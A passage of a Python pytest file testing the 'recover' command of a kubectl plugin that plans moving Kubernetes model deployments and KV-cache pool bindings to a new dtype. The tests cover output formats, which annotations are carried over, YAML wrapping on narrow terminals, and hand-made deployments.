    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    plan = plan_of("b", "-n", "team", "-f", str(path))
    assert "ModelDeployment t: engine 'TensorRT-LLM' is not vLLM or SGLang, so dtype 'fp8_e4m3' is not checked " \
           "against it" in plan["warnings"]
    assert "create ModelDeployment t-fp8-e4m3" in actions(plan)


@pytest.mark.parametrize("argv", [["recover", "sgl-fp8", "-n", "llm-prod"], ["setting", "status"]])
def test_the_human_format_is_table_and_its_old_name_text_is_still_accepted(argv):
    """kubectl's name for the lines a person reads; `text` (recover's, and setting status's
    before) was documented, so scripts may pass it."""
    example = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), "examples", "cluster.json")
    if argv[0] == "setting":
        code, _, err = kvcache(*argv, "-o", "bogus", "--server", "http://127.0.0.1:1")
        assert code == 2 and "invalid choice: 'bogus' (choose from 'table', 'json', 'yaml')" in err
        return
    runs = {fmt: kvcache(*argv, "-f", example, *(["-o", fmt] if fmt else [])) for fmt in ("table", "text", None)}
    assert runs["table"] == runs["text"] == runs[None]
    assert runs["table"][0] == 0 and runs["table"][1].startswith("Recovery of KVCachePoolBinding llm-prod/sgl-fp8")


def test_only_the_users_annotations_are_carried_to_new_objects(tmp_path):
    """issue 30 #3: an annotation Kubernetes (kubernetes.io, k8s.io) or the operator (gpustack.ai)
    wrote for the old object -- an admission record with its uid and dtype -- is not copied into the
    new Binding or deployment; the user's own are; the plan names each one left out."""
    md = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    md["metadata"]["annotations"] = {"team": "serving", "example.com/owner": "ml",
                                     "worker.gpustack.ai/admitted": '{"uid": "u-old", "dtype": "fp8"}',
                                     "deployment.kubernetes.io/revision": "3"}
    bind = ob.binding("b", "fp8", pool="p")
    bind["metadata"]["annotations"] = {"note": "mine", "gpustack.ai/claimed-by": "u-old"}
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(bind, md, ob.setting("true"))))
    planned = recover.plan(_inputs(str(path)), recover.Request(dtype="fp8_e4m3"))
    plan = planned.to_dict()
    created = [s["object"] for s in plan["steps"] if s["action"] == "create"]
    new_binding = next(o for o in created if o["kind"] == "KVCachePoolBinding")
    new_md = next(o for o in created if o["kind"] == "ModelDeployment")
    assert {k: v for k, v in new_md["metadata"]["annotations"].items()} == {"team": "serving",
                                                                            "example.com/owner": "ml"}
    assert new_binding["metadata"]["annotations"]["note"] == "mine"
    assert not any("gpustack.ai/claimed-by" == k for k in new_binding["metadata"]["annotations"])
    notes = " ".join(planned.notes)      # on stderr, before the plan
    assert "worker.gpustack.ai/admitted" in notes and "deployment.kubernetes.io/revision" in notes
    assert "gpustack.ai/claimed-by" in notes


def test_a_record_naming_the_old_objects_uid_is_not_copied_and_the_plan_says_so(tmp_path):
    """Issue 39 item 7: a controller's admission record (the demo stand-in's, with the old uid and
    dtype) was copied into the new Binding and deployment; the user's own annotations are kept."""
    b = ob.binding("b", "fp8", pool="p")
    md = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    for obj, uid in ((b, "0b7c9a52-uid-of-b"), (md, "5d1e-uid-of-s")):
        obj["metadata"]["uid"] = uid
        obj["metadata"]["annotations"] = {"ctl.example.com/admitted": json.dumps({"uid": uid, "dtype": "fp8"}),
                                          "team.example.com/owner": "alice " + "x" * 120}
    path = tmp_path / "in.json"
    path.write_text(json.dumps(ob.as_list(b, md, ob.setting("true"))))
    plan = plan_of("b", "-n", "team", "-f", str(path))
    created = [s["object"] for s in plan["steps"] if s.get("action") == "create"]
    assert {o["kind"] for o in created} == {"KVCachePoolBinding", "ModelDeployment"}
    for obj in created:
        assert obj["metadata"]["annotations"].get("team.example.com/owner", "").startswith("alice ")
        assert "ctl.example.com/admitted" not in obj["metadata"]["annotations"]
    code, out, err = kvcache("recover", "b", "-n", "team", "-f", str(path))
    notes = [n for n in err.splitlines() if "ctl.example.com/admitted" in n]
    assert code == 0 and len(notes) == 2 and all("not carried" in n for n in notes), err
    assert "ctl.example.com/admitted:" not in out and "team.example.com/owner:" in out


def test_the_plans_yaml_reads_back_as_the_object_on_an_80_column_terminal(monkeypatch):
    """Issue 39 item 5: the plugin wrapped a long YAML row with a shallower indent: copied, it was
    no longer YAML (or not the same YAML)."""
    import io
    from kubectl_kvcache.render import recover as view

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setenv("COLUMNS", "80")
    obj = {"apiVersion": "worker.gpustack.ai/v1alpha1", "kind": "ModelDeployment",
           "metadata": {"name": "s", "annotations": {"team.example.com/note": " ".join(["word"] * 40),
                                                     "team.example.com/id": "y" * 100}},
           "spec": {"model": {"name": "Qwen/Qwen3-8B"}}}
    out = Terminal()
    view._manifest(obj, out)
    rows = out.getvalue().splitlines()
    assert all(r.startswith("       ") for r in rows)
    assert yaml.safe_load("\n".join(r[7:] for r in rows)) == obj
    # one row per key, but a `key: value` longer than the terminal is the key, then its value whole
    # on the next row, two columns past the key (issue 48 item 8): never folded inside the value
    assert len(rows) == 12
    assert rows[rows.index("           team.example.com/id:") + 1] == "             " + "y" * 100
    assert rows[rows.index("           team.example.com/note:") + 1] == "             " + " ".join(["word"] * 40)


def test_the_same_model_is_found_whatever_the_engine_spelling(tmp_path):
    """A deployment stored as `SGLang` (before the CRD's enum) and one made by hand as `sglang` run
    one engine: the hand-made one serving the same model with another spec is refused as above."""
    line = refused("b", "-n", "team", "-f", _moved_by_hand(tmp_path, replicas=5, engine="sglang"))
    assert "s-by-hand already serves the model of s on KVCachePoolBinding b-by-hand" in line, line


def _moved_by_hand(tmp_path, replicas=None, engine="SGLang"):
    old = ob.deployment("s", engine="SGLang", version="0.5.18", binding_name="b")
    old["spec"]["model"] = {"name": "Qwen/Qwen3-8B"}
    new = copy.deepcopy(old)
    new["metadata"]["name"] = "s-by-hand"
    new["spec"]["engine"]["name"] = engine
    new["spec"]["kvCache"]["poolRef"]["name"] = "b-by-hand"
    if replicas is not None:
        new["spec"]["roles"][0]["replicas"] = replicas
    files = ob.as_list(ob.binding("b", "fp8", pool="p", domain="d"),
                       ob.binding("b-by-hand", "fp8_e4m3", pool="p", domain="d-mine"), old, new, ob.setting("true"))
    path = tmp_path / "in.json"
    path.write_text(json.dumps(files))
    return str(path)


def test_a_deployment_moved_by_hand_is_adopted_not_doubled(tmp_path):
    """Issue 39 item 3: half-way through the guide's manual steps (a new Binding and a new
    deployment on it made by hand), recover planned a second deployment beside the hand-made one
    and said "Create" for the Binding that exists."""
    path = _moved_by_hand(tmp_path)
    plan = plan_of("b", "-n", "team", "-f", path)
    assert plan["target"]["name"] == "b-by-hand" and plan["target"]["dtype"] == "fp8_e4m3"
    creates = [(s["object"]["kind"], s["object"]["metadata"]["name"], s.get("exists")) for s in plan["steps"]
               if s["action"] == "create"]
    assert creates == [("KVCachePoolBinding", "b-by-hand", True), ("ModelDeployment", "s-by-hand", True)]
    deletes = [(s["target"]["kind"], s["target"]["name"]) for s in plan["steps"] if s["action"] == "delete"]
    assert deletes == [("ModelDeployment", "s"), ("KVCachePoolBinding", "b")]
    code, out, err = kvcache("recover", "b", "-n", "team", "-f", path)
    assert code == 0 and "Create " not in out and out.count("Adopt ") == 2, out
    assert "apiVersion:" not in out           # nothing is created: no manifest to read


def test_a_deployment_of_the_same_model_on_the_new_binding_with_another_spec_is_refused(tmp_path):
    path = _moved_by_hand(tmp_path, replicas=5)
    line = refused("b", "-n", "team", "-f", path)
    assert "s-by-hand already serves the model of s on KVCachePoolBinding b-by-hand" in line, line
    assert "--name b-by-hand" in line and "second deployment" in line
    # onto that Binding (--name), the same model with another spec there: refused again, naming it
    line = refused("b", "-n", "team", "-f", path, "--name", "b-by-hand")
    assert "s-by-hand already serves" in line and "with another spec than s's" in line, line
